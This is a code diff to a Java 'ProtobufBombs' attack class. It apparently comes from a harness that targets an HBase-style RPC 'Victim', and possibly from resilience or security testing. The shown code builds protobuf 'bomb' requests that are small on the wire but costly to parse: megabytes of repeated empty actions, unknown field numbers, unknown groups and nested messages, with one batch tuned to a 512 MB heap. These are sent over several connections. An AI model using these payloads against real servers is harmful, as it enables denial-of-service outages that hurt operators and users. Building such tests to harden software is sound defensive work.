@@ -10,6 +10,10 @@ import org.apache.hbase.thirdparty.com.google.protobuf.CodedOutputStream;
 /** Requests that are small on the wire and large as objects, several at once. */
 final class ProtobufBombs implements Attack {
   private static final int BYTES = 20 << 20;
+
+  /** Of empty actions as many as pass the estimate of a message on a heap of 512 MB. */
+  private static final int ACTION_BYTES = 1_300_000;
+
   private static final int CONNECTIONS = 6;
 
   @Override
@@ -23,9 +27,10 @@ final class ProtobufBombs implements Attack {
   public void prepare(Victim victim) throws IOException {
     bombs =
         List.of(
-            request(victim, filled((byte) 0x12, (byte) 0)), // empty actions
-            request(victim, filled((byte) 0x78, (byte) 1)), // unknown numbers
-            request(victim, filled((byte) 0x7b, (byte) 0x7c)), // unknown groups
+            request(victim, filled(BYTES, (byte) 0x1a, (byte) 0)), // empty actions
+            request(victim, filled(ACTION_BYTES, (byte) 0x1a, (byte) 0)), // each has an error
+            request(victim, filled(BYTES, (byte) 0x78, (byte) 1)), // unknown numbers
+            request(victim, filled(BYTES, (byte) 0x7b, (byte) 0x7c)), // unknown groups
             request(victim, nested()));
   }
 
@@ -47,8 +52,8 @@ final class ProtobufBombs implements Attack {
     }
   }
 
-  private static byte[] filled(byte... pattern) {
-    byte[] bytes = new byte[BYTES];
+  private static byte[] filled(int length, byte... pattern) {
+    byte[] bytes = new byte[length];
     for (int i = 0; i < bytes.length; i++) {
       bytes[i] = pattern[i % pattern.length];
     }
